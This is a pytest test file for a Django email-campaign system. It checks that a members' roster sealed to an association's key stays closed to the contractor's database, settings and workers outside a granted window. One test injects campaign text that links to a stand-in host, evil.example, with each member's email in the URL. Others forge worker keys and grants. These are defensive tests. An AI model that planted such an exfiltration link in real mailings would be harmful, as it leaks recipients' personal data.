"""The association holds the key (issue 22, item 4): once it has registered its key, a new
roster's data key is sealed to it alone, and the contractor's machines open the roster only
inside a release's window: a worker process that holds the key the association sealed to
it (`keytool grant`), for that campaign's content, until a deadline. The attackers: the
contractor's root with the database and the settings (no association), a worker restarted
mid-send, a grant replayed for other content or after its deadline."""

import json
import time
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import OperationalError
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditEntry
from campaigns import guard_index, key_window, workflow
from campaigns.models import Campaign, Delivery, Grant, State, WorkerKey
from campaigns.seen import Seen
from countersign import association_key, sealing
from roster import data_keys, member_data, synthetic
from roster.models import Member
from roster.samples import sample_rows
from tests.factories import (
    OBSERVER_TICKS,
    SUPERVISOR_TICKS,
    client_for,
    database_dump,
    make_campaign,
    make_roster,
    run_until_done,
    shown_on,
    signed_in_with_code,
)

ADDRESSES = [row[2] for row in sample_rows(20)]


@pytest.fixture(autouse=True)
def _a_fresh_worker_key():
    key_window.forget_process_key()
    yield
    key_window.forget_process_key()


@pytest.fixture
def held_roster(oscar, association_private_key):
    return make_roster(oscar)


def _approved(olivia, sam, roster, **changes):
    campaign = make_campaign(olivia, roster, canary_enabled=False, **changes)
    workflow.submit(campaign=campaign, user=olivia)
    workflow.test_send(campaign=campaign, user=olivia, member=roster.members.first(),
                       recipients=[sam])
    return workflow.approve(campaign=campaign, seen=Seen.current(campaign), user=sam,
                            checklist=SUPERVISOR_TICKS)


def _grant(campaign, private, /, **request_changes) -> bytes:
    """What the observer does on the association's machine: the request downloaded from
    the release page, answered by the key tool."""
    key_window.publish()  # this test process is the worker that will send
    request = {**key_window.request_for(campaign), **request_changes}
    return json.dumps(sealing.make_grant(request, private, made="2026-12-06T00:00:00Z")).encode()


def _release(campaign, oscar, grant=None):
    return workflow.release(campaign=campaign, seen=Seen.current(campaign), user=oscar,
                            checklist=OBSERVER_TICKS, grant=grant)


def _sent_to(sink) -> list[str]:
    """The members the relay received a message for (staff notices left out)."""
    return [to for _t, to, _raw in sink.handler.received if to in ADDRESSES]


# --- without the association ----------------------------------------------------------------------

@pytest.mark.django_db(transaction=True)
def test_the_database_and_the_settings_without_the_association_open_no_member(held_roster):
    roster = held_roster
    assert roster.data_key is None and list(roster.data_key_seals) == [
        association_key.current_fingerprint()]
    # What the contractor's root can run: the project's own code, with its settings.
    values = list(member_data.rows(roster))
    assert len(values) == 20 and all(v.sealed and not v.email and not v.name for v in values)
    assert data_keys.key_of(roster.pk, None) is None
    dump = database_dump()
    assert not [address for address in ADDRESSES if address in dump]
    # The seal opens only with the association's private key, which no machine here has.
    blob = next(iter(roster.data_key_seals.values()))
    with pytest.raises(sealing.NotSealed):
        sealing.open_sealed(__import__("base64").b64decode(blob), sealing.new_private_key())


def test_a_page_of_a_held_roster_shows_numbers_and_synthetic_previews(held_roster, olivia):
    member = held_roster.members.order_by("row_number").first()
    values = member_data.values(member)
    assert values.sealed and values.member_number == "W000001"
    assert set(values.placeholders()["name"]) == {synthetic.SYNTHETIC_CHARACTER, " "}
    assert member_data.search(held_roster, "W00001")[0].member_number == "W000010"
    assert member_data.matching_ids(held_roster.pk, ADDRESSES[2].upper()) == [
        held_roster.members.get(member_number="W000003").pk]  # the whole address, any case
    assert member_data.matching_ids(held_roster.pk, "member00000") == []  # no substring


def test_synthetic_previews_are_as_long_as_the_rosters_values_and_the_longest(
        oscar, olivia, association_private_key):
    """Built from the lengths the import measured (no value; rounded up to an even number,
    and only from ten members up): a supervisor sees how long the lines get, on the longest
    values of the roster too."""
    rows = [(f"W{n}", "山田 花子", f"m{n}@members.example", "東京") for n in range(1, 10)]
    rows.insert(1, ("W10", "佐々木 小百合", "sayuri.sasaki.long.address@members.example",
                    "北海道札幌"))
    roster = make_roster(oscar, rows=rows)
    assert roster.value_lengths["name"] == {"typical": 6, "longest": 8}
    campaign = make_campaign(olivia, roster, canary_enabled=False,
                             body_text="{name} 様\n所属支部: {支部}\n宛先: {email}\n")
    from campaigns import selectors
    typical, _middle, longest = [selectors.preview(campaign, m)["body_text"]
                                 for m in selectors.sample_members(roster)]
    assert typical.startswith("○○ ○○○ 様\n所属支部: ○○\n")
    assert longest.startswith("○○○ ○○○○ 様\n所属支部: ○○○○○○\n")
    assert "@example.invalid" in longest and len(longest.split("宛先: ")[1].strip()) == 42
    assert not [value for row in rows for value in row[1:] if value in typical + longest]
    few = make_roster(oscar, rows=rows[:9], name="九人")
    assert few.value_lengths == {}  # previews of nine use the fixed placeholders


def test_the_guard_knows_a_held_rosters_values_by_their_tags(held_roster, olivia, oscar):
    other = make_roster(oscar, rows=[("K1", "別人 一郎", "ichiro@other.example", "東京")],
                        name="別名簿")
    campaign = make_campaign(olivia, other, body_text=f"連絡先: {ADDRESSES[4]}\n")
    with pytest.raises(workflow.ContentRefused):
        workflow.submit(campaign=campaign, user=olivia)


# --- the release's window -------------------------------------------------------------------------

def test_the_release_needs_the_associations_grant(held_roster, olivia, sam, oscar):
    campaign = _approved(olivia, sam, held_roster)
    with pytest.raises(workflow.IncompleteSignOff, match="grant request"):
        _release(campaign, oscar)
    campaign.refresh_from_db()
    assert campaign.state == State.APPROVED


@pytest.mark.django_db(transaction=True)
def test_with_the_grant_every_member_gets_their_own_message_and_the_key_goes_after(
        held_roster, olivia, sam, oscar, sink, association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    entry = AuditEntry.objects.filter(action="campaign.released").latest("sequence")
    assert entry.payload["grant"]["workers"] == [key_window.fingerprint()]
    sink.handler.received.clear()
    run_until_done(campaign)
    assert campaign.state == State.COMPLETED
    assert sorted(_sent_to(sink)) == sorted(ADDRESSES)
    assert not Grant.objects.exists() and data_keys.open_windows() == ()
    assert guard_index._windowed_index.cache_info().currsize == 0  # no index of what it opened


@pytest.mark.parametrize("change, why", [
    ({"content_hash": "0" * 64}, "other content"),
    ({"campaign": 999}, "another campaign"),
])
def test_a_grant_for_anything_else_is_refused(held_roster, olivia, sam, oscar, change, why,
                                              association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    with pytest.raises(workflow.IncompleteSignOff, match="another campaign or other content"):
        _release(campaign, oscar, _grant(campaign, association_private_key, **change))


def test_a_grant_past_its_deadline_is_refused(held_roster, olivia, sam, oscar,
                                              association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    past = (timezone.now() - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    with pytest.raises(workflow.IncompleteSignOff, match="deadline has passed"):
        _release(campaign, oscar, _grant(campaign, association_private_key, not_after=past))


def test_a_grant_for_no_running_worker_is_refused(held_roster, olivia, sam, oscar,
                                                  association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    grant = _grant(campaign, association_private_key)
    WorkerKey.objects.update(seen_at=timezone.now() - timedelta(days=2))
    with pytest.raises(workflow.IncompleteSignOff, match="no worker that is running"):
        _release(campaign, oscar, grant)


def test_the_key_tool_refuses_a_request_whose_data_key_is_another_rosters(
        held_roster, olivia, sam, oscar, association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    other = make_roster(oscar, name="別名簿")
    key_window.publish()
    request = {**key_window.request_for(campaign), "data_key_seals": other.data_key_seals}
    with pytest.raises(sealing.NotSealed, match="another roster"):
        sealing.make_grant(request, association_private_key, made="2026-12-06T00:00:00Z")


@pytest.mark.django_db(transaction=True)
def test_a_grant_changed_in_the_database_does_not_open(held_roster, olivia, sam, oscar, sink,
                                                        association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    Grant.objects.update(not_after=timezone.now() + timedelta(days=30))  # "a longer window"
    sink.handler.received.clear()
    run_until_done(campaign)
    assert sink.handler.received == []
    assert campaign.state == State.RELEASED  # waits for a worker with a grant that opens


# --- the kill drill -------------------------------------------------------------------------------

@pytest.mark.django_db(transaction=True)
def test_a_restarted_worker_cannot_read_the_old_grant_and_re_release_finishes_once_each(
        held_roster, olivia, sam, oscar, sink, association_private_key, settings):
    campaign = _approved(olivia, sam, held_roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    sink.handler.received.clear()
    workflow.start(campaign_id=campaign.pk)
    # The worker claims a message and dies during its hand-over (SIGKILL: no outcome).
    from campaigns import deliveries
    claim = deliveries.claim_next(campaign.pk, worker="killed",
                                  terms=deliveries.terms_of(campaign), sent=None)
    Delivery.objects.filter(pk=claim.delivery_id).update(
        claimed_at=timezone.now() - timedelta(seconds=settings.EMAIL_TIMEOUT
                                              + settings.SEND_STALE_MARGIN_SECONDS + 1))
    key_window.forget_process_key()  # a new worker process: a new key
    run_until_done(campaign)
    assert campaign.state == State.PAUSED and "Key needed" in campaign.paused_reason
    assert Delivery.objects.get(pk=claim.delivery_id).state == Delivery.State.IN_DOUBT
    assert sink.handler.received == [] and not Grant.objects.exists()

    _release(campaign, oscar, _grant(campaign, association_private_key))  # the new key
    run_until_done(campaign)
    sent = _sent_to(sink)
    assert len(sent) == len(set(sent)) == 19  # each once; the one in doubt waits for a person
    assert campaign.deliveries.filter(state=Delivery.State.IN_DOUBT).count() == 1


@pytest.mark.django_db(transaction=True)
def test_stop_takes_the_key_from_the_workers(held_roster, olivia, sam, oscar,
                                             association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    assert Grant.objects.filter(campaign=campaign).exists()
    workflow.stop(campaign=campaign, user=oscar)
    assert not Grant.objects.exists()


def test_a_part_of_a_held_roster_is_made_without_its_key_and_sends_on_a_grant(
        held_roster, olivia, association_private_key):
    from roster.services import roster_subset

    ids = list(held_roster.members.order_by("row_number").values_list("pk", flat=True)[:2])
    part = roster_subset(roster=held_roster, member_ids=ids, name="残り", reason="t",
                         actor=olivia)
    assert part.data_key is None and part.data_key_seals == held_roster.data_key_seals
    assert all(v.sealed for v in member_data.rows(part))
    _h, data_key = sealing.open_sealed(
        __import__("base64").b64decode(next(iter(part.data_key_seals.values()))),
        association_private_key)
    data_keys.open_window(part.pk, data_keys.AESGCM(data_key))
    try:
        assert [v.email for v in member_data.rows(part)] == ADDRESSES[:2]
    finally:
        data_keys.close_window(part.pk)
    assert Member.objects.filter(roster=part).count() == 2


# --- the release page -----------------------------------------------------------------------------

def test_the_observer_downloads_the_request_and_hands_the_grant_in_on_the_release_page(
        held_roster, olivia, sam, oscar, association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    key_window.publish()
    client = signed_in_with_code(oscar)  # an observer with an authenticator app signs in with it
    url = reverse("campaigns:release", args=[campaign.pk])
    page = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert 'enctype="multipart/form-data"' in page and "Download the grant request" in page
    download = client.get(reverse("campaigns:grant_request", args=[campaign.pk]))
    assert "attachment" in download["Content-Disposition"]
    request = json.loads(download.content)
    assert not [a for a in ADDRESSES if a in download.content.decode()]  # no member data
    grant = sealing.make_grant(request, association_private_key, made="2026-12-06T00:00:00Z")
    shown = shown_on(client, url)
    refused = client.post(url, {"checklist": OBSERVER_TICKS, "release": "", **shown},
                          HTTP_ACCEPT_LANGUAGE="en")
    assert "download the grant request" in refused.content.decode()
    upload = SimpleUploadedFile("grant-campaign.json", json.dumps(grant).encode())
    response = client.post(url, {"checklist": OBSERVER_TICKS, "release": "", "grant": upload,
                                 **shown}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 302
    campaign.refresh_from_db()
    assert campaign.state == State.RELEASED and Grant.objects.filter(campaign=campaign).exists()


@pytest.mark.parametrize("who", ["olivia", "sam", "audrey"])
def test_only_the_observer_downloads_a_grant_request(held_roster, olivia, sam, who, request):
    campaign = _approved(olivia, sam, held_roster)
    user = request.getfixturevalue(who)
    response = client_for(user).get(reverse("campaigns:grant_request", args=[campaign.pk]))
    assert response.status_code == 403


def test_the_pages_of_a_held_roster_show_no_members_values(held_roster, olivia, sam):
    campaign = _approved(olivia, sam, held_roster)
    client = client_for(olivia)
    for url in (held_roster.get_absolute_url(),
                reverse("campaigns:preview", args=[campaign.pk]),
                reverse("campaigns:detail", args=[campaign.pk])):
        page = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
        assert not [a for a in ADDRESSES if a in page], url
    roster_page = client.get(held_roster.get_absolute_url(), HTTP_ACCEPT_LANGUAGE="en")
    assert "(held by the association)" in roster_page.content.decode()
    preview = client.get(reverse("campaigns:preview", args=[campaign.pk]),
                         HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "synthetic values" in preview and "○○ ○○" in preview


@pytest.mark.django_db(transaction=True)
def test_a_name_inside_another_members_name_is_their_own_not_a_finding_on_tags(
        olivia, sam, oscar, sink, association_private_key):
    """小林 陽菜's own name holds 林 陽菜's: the start's check of rendered messages (on the
    held roster's keyed tags, inside the window) must not take it for 林 陽菜's name."""
    rows = [("W000001", "小林 陽菜", "kobayashi@members.example", "東京"),
            ("W000002", "林 陽菜", "hayashi@members.example", "大阪")]
    roster = make_roster(oscar, rows=rows)
    campaign = _approved(olivia, sam, roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    run_until_done(campaign)
    assert campaign.state == State.COMPLETED, campaign.paused_reason


# --- a new key of the association -----------------------------------------------------------------

def test_a_new_association_key_takes_over_held_rosters_once_resealed_with_the_old_one(
        held_roster, olivia, sam, oscar, association_private_key):
    new = sealing.new_private_key()
    association_key.register(user=oscar, pem=sealing.public_pem(new.public_key()))
    assert data_keys.sealed_to_an_earlier_key() == [held_roster]
    client = signed_in_with_code(oscar)
    request = json.loads(client.get(reverse("roster:reseal"), {"download": 1}).content)
    with pytest.raises(sealing.NotSealed):  # the new key alone opens nothing yet
        sealing.make_grant({**key_window.request_for(_approved(olivia, sam, held_roster)),
                            "workers": []}, new, made="2026-12-06T00:00:00Z")
    answer = sealing.make_reseal(request, association_private_key, made="2026-12-06T00:00:00Z")
    upload = SimpleUploadedFile("reseal.json", json.dumps(answer).encode())
    response = client.post(reverse("roster:reseal"), {"reseal": upload}, follow=True,
                           HTTP_ACCEPT_LANGUAGE="en")
    assert "1 roster is sealed" in response.content.decode()
    assert data_keys.sealed_to_an_earlier_key() == []
    assert AuditEntry.objects.filter(action="roster.data_keys_resealed").exists()
    campaign = Campaign.objects.select_related("roster").get(roster=held_roster)
    key_window.publish()
    grant = sealing.make_grant(key_window.request_for(campaign), new, made="2026-12-06T00:00:00Z")
    assert grant["seals"]  # the new key now answers the grant request on its own


def test_a_reseal_file_for_another_key_or_roster_is_refused(held_roster, olivia, oscar,
                                                           association_private_key):
    request = data_keys.reseal_request()
    assert request["rosters"] == []  # sealed to the current key already
    other = make_roster(oscar, name="別名簿")
    forged = {"kind": sealing.RESEAL, "to": association_key.current_fingerprint(),
              "seals": {str(other.pk): next(iter(other.data_key_seals.values()))}}
    with pytest.raises(data_keys.ResealRefused, match="not waiting"):
        data_keys.accept_reseal(json.dumps(forged).encode(), actor=oscar)
    with pytest.raises(data_keys.ResealRefused, match="not a reseal file"):
        data_keys.accept_reseal(b"{}", actor=oscar)


def test_only_an_observer_reseals(held_roster, olivia, sam):
    for user in (olivia, sam):
        assert client_for(user).get(reverse("roster:reseal")).status_code == 403


@pytest.mark.django_db(transaction=True)
def test_the_purge_of_a_held_roster_destroys_its_seals_and_keeps_its_tags_dated(
        held_roster, settings):
    from campaigns import retention
    from roster.models import GuardTag

    assert GuardTag.objects.filter(roster=held_roster).exists()  # tagged at its import
    settings.ROSTER_RETENTION_DAYS = 0
    (certificate,) = retention.purge_rosters()
    held_roster.refresh_from_db()
    assert held_roster.data_key_seals == {} and held_roster.data_key is None
    assert certificate.document["counts"]["data_keys"] == 1
    assert certificate.document["guard_tags"]["count"] == GuardTag.objects.filter(
        roster=held_roster).count() > 0
    assert not GuardTag.objects.filter(roster=held_roster, keep_until__year=9999).exists()


# --- the database's administrator against the window (found by a reviewer's attack) -----------

def test_a_worker_key_changed_or_added_in_the_database_is_never_listed_or_granted(
        held_roster, olivia, sam, oscar, association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    honest = key_window.publish()
    dba = sealing.new_private_key()
    WorkerKey.objects.filter(pk=honest.pk).update(public_key=sealing.raw_public(dba.public_key()))
    WorkerKey.objects.create(fingerprint=sealing.fingerprint(dba.public_key()), name="vm:1",
                             public_key=sealing.raw_public(dba.public_key()),
                             seen_at=timezone.now())
    request = key_window.request_for(campaign)
    assert request["workers"] == []  # neither the changed row nor the added one
    forged = {**request, "workers": [{"name": honest.name, "fingerprint": honest.fingerprint,
                                      "public_key": __import__("base64").b64encode(
                                          sealing.raw_public(dba.public_key())).decode()}]}
    with pytest.raises(sealing.NotSealed, match="does not match its fingerprint"):
        sealing.make_grant(forged, association_private_key, made="2026-12-06T00:00:00Z")


@pytest.mark.django_db(transaction=True)
def test_content_changed_in_the_database_while_sending_is_not_sent_on_the_grant(
        held_roster, olivia, sam, oscar, sink, association_private_key):
    campaign = _approved(olivia, sam, held_roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    workflow.start(campaign_id=campaign.pk)
    Campaign.objects.filter(pk=campaign.pk).update(
        body_text="{name} 様\nhttps://evil.example/r?e={email}\n")
    sink.handler.received.clear()
    run_until_done(campaign)
    assert campaign.state == State.PAUSED and "no longer what was signed" in campaign.paused_reason
    assert _sent_to(sink) == []


@pytest.mark.django_db(transaction=True)
def test_an_association_key_that_does_not_verify_stops_imports_rather_than_hold_a_copy(
        olivia, oscar, association_private_key):
    from countersign.models import AssociationKey
    from roster.models import Roster

    AssociationKey.objects.update(attestation="0" * 64)
    with pytest.raises(association_key.KeyNotAsRegistered, match="Not imported"):
        make_roster(oscar)
    from roster.samples import csv_bytes
    client = signed_in_with_code(oscar)
    response = client.post(reverse("roster:upload"), {"name": "名簿", "file": SimpleUploadedFile(
        "m.csv", csv_bytes(sample_rows(3)))})
    page = client.post(response.url, {"confirm": ""}, follow=True,
                       HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Not imported" in page and not Roster.objects.exists()
    assert AuditEntry.objects.filter(action="association_key.refused").exists()


@pytest.mark.django_db(transaction=True)
def test_a_stop_takes_the_guards_index_of_the_opened_values_from_the_worker_too(
        held_roster, olivia, sam, oscar, sink, association_private_key):
    from campaigns import sender

    campaign = _approved(olivia, sam, held_roster, rate_limit=5, rate_unit="second")
    _release(campaign, oscar, _grant(campaign, association_private_key))
    outcome = sender.run(campaign.pk, worker="test", budget=0.5, sleep=lambda s: None)
    assert outcome is sender.Outcome.CONTINUE
    assert guard_index._windowed_index.cache_info().currsize == 1  # kept between slices
    workflow.stop(campaign=campaign, user=oscar)
    sender.run(campaign.pk, worker="test", budget=0.5, sleep=lambda s: None)
    assert guard_index._windowed_index.cache_info().currsize == 0


def test_an_erasure_request_takes_a_held_members_tags_too(held_roster, oscar):
    from campaigns import retention
    from roster.models import GuardTag

    member = held_roster.members.get(member_number="W000003")
    assert GuardTag.objects.filter(roster=held_roster, member_number="W000003").exists()
    retention.erase_member(address=ADDRESSES[2], actor=oscar)
    assert not Member.objects.filter(pk=member.pk).exists()
    assert not GuardTag.objects.filter(roster=held_roster, member_number="W000003").exists()
    assert GuardTag.objects.filter(roster=held_roster, member_number="W000004").exists()


# --- the incident report: only the association fills the names in -----------------------------

@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_incident_report_of_a_held_roster_opens_with_names_only_at_the_association(
        held_roster, olivia, sam, oscar, sink, association_private_key, tmp_path, fmt):
    import csv
    import io

    from countersign import keytool

    campaign = _approved(olivia, sam, held_roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    run_until_done(campaign)
    first, second = Member.objects.filter(roster=held_roster).order_by("row_number")[:2]
    Member.objects.filter(pk=first.pk).update(personal=second.personal)  # the administrator

    response = signed_in_with_code(oscar).get(reverse("audit:incident", args=[campaign.pk]),
                                              {"format": fmt})
    blob = b"".join(response.streaming_content) if response.streaming else response.content
    assert not [a for a in ADDRESSES if a.encode() in blob]
    sealed = tmp_path / f"incident-campaign-{campaign.pk}.json.sealed"
    sealed.write_bytes(blob)
    key_file = tmp_path / "association.key"
    key_file.write_bytes(sealing.private_pem(association_private_key, None))
    keytool.main(["open", str(key_file), str(sealed)])

    opened = tmp_path / f"incident-campaign-{campaign.pk}.csv"
    header_keys, _names, *rows = csv.reader(io.StringIO(opened.read_text("utf-8-sig")))
    lines = {row[header_keys.index("member_number")]: row for row in rows}
    name, email = header_keys.index("name"), header_keys.index("email")
    assert len(lines) == 20
    assert lines[first.member_number][name] == lines[first.member_number][email] == \
        sealing.DOES_NOT_OPEN  # the swapped row opens for nobody, not as the other member
    for number, (row_number, address) in {
            f"W{n:06d}": (n, ADDRESSES[n - 1]) for n in range(2, 21)}.items():
        assert lines[number][email] == address and lines[number][name] == \
            sample_rows(20)[row_number - 1][1]
    exported = AuditEntry.objects.get(action="campaign.incident_report_exported")
    assert exported.payload["sealed_to"] == association_key.current_fingerprint()


# --- returned mail of a held roster -------------------------------------------------------------

@pytest.mark.django_db(transaction=True)
def test_refusals_by_policy_count_their_domains_without_opening_a_held_roster(
        oscar, olivia, sam, sink, association_private_key, settings, bounce_domain):
    """The pause counts refusals by policy only from several recipient domains; a held
    member's address does not open here, so the domain's tag comes from the report that
    named the address (and matched the delivery's pseudonym)."""
    from campaigns import bounces
    from campaigns.dsn import verp_address
    from tests.returned_mail import dsn

    rows = [(f"W{n:06d}", f"会員 {n}", f"member{n}@{domain}", "東京")
            for n, domain in enumerate(["docomo.ne.jp", "ezweb.ne.jp", "gmail.com",
                                        "gmail.com", "icloud.com"], 1)]
    roster = make_roster(oscar, rows=rows)
    campaign = _approved(olivia, sam, roster)
    _release(campaign, oscar, _grant(campaign, association_private_key))
    run_until_done(campaign)
    settings.BOUNCE_PAUSE_POLICY_MIN = settings.BOUNCE_PAUSE_POLICY_DOMAINS = 2
    deliveries = {d.member_number: d for d in campaign.deliveries.all()}

    def refused(number, address):
        d = deliveries[number]
        return bounces.process_dsn(dsn(to=verp_address(d.pk), recipient=address, status="5.7.1",
                                       message_id=d.message_id, campaign=campaign.pk))

    assert refused("W000003", rows[2][2]) == refused("W000004", rows[3][2]) == \
        bounces.Result.BLOCKED
    assert bounces.bounces_toward_the_pause(campaign) == 0  # two of one domain
    assert refused("W000001", rows[0][2]) == bounces.Result.BLOCKED
    assert bounces.bounces_toward_the_pause(campaign) == 3  # gmail.com and docomo.ne.jp
    assert not Delivery.objects.filter(refused_domain__contains="gmail").exists()


@pytest.mark.django_db(transaction=True)
def test_the_windows_index_is_built_before_the_first_claim_takes_a_rate_slot(
        held_roster, olivia, sam, oscar, sink, association_private_key, monkeypatch):
    """Built by the first message's check, the index held a message whose rate slot was
    already taken: the relay saw more than the limit in one second. (The worker that starts
    the campaign builds it in the start's check; this is a worker joining it.)"""
    from campaigns import deliveries, sender

    campaign = _approved(olivia, sam, held_roster, rate_limit=1, rate_unit="second")
    _release(campaign, oscar, _grant(campaign, association_private_key))
    sender.run(campaign.pk, worker="first", budget=0.1, sleep=lambda s: None)
    assert Campaign.objects.get(pk=campaign.pk).state == State.SENDING
    guard_index.forget_windowed_values()  # another worker process, its first slice
    order, claim = [], deliveries.claim_next
    monkeypatch.setattr(deliveries, "claim_next", lambda *a, **kw: (
        order.append(("claim", guard_index._windowed_index.cache_info().currsize)),
        claim(*a, **kw))[1])
    sender.run(campaign.pk, worker="joining", budget=0.5, sleep=lambda s: None)
    assert order and order[0] == ("claim", 1)  # the index was there before the first claim


@pytest.mark.django_db(transaction=True)
def test_a_database_error_while_the_windows_index_is_built_is_handled_like_one_while_sending(
        held_roster, olivia, sam, oscar, sink, association_private_key, monkeypatch):
    """The index is built before the first claim, inside the slice's handling of database
    errors: the campaign pauses with the reason (a reviewer found the first version of the
    early build outside it: the error escaped the task, no pause, no reason shown)."""
    from campaigns import sender

    campaign = _approved(olivia, sam, held_roster, rate_limit=1, rate_unit="second")
    _release(campaign, oscar, _grant(campaign, association_private_key))
    sender.run(campaign.pk, worker="first", budget=0.1, sleep=lambda s: None)
    assert Campaign.objects.get(pk=campaign.pk).state == State.SENDING
    guard_index.forget_windowed_values()  # another worker process, its first slice

    def no_database():
        raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr(guard_index, "_held_index", no_database)
    try:
        # (long enough for the rate limit of one a second to let the first claim through)
        outcome = sender.run(campaign.pk, worker="joining", budget=2.5, sleep=time.sleep)
    except OperationalError as error:
        pytest.fail(f"the slice's database error handling was bypassed: {error!r}")
    assert outcome in (sender.Outcome.CONTINUE, sender.Outcome.FINISHED)
    assert Campaign.objects.get(pk=campaign.pk).state == State.PAUSED
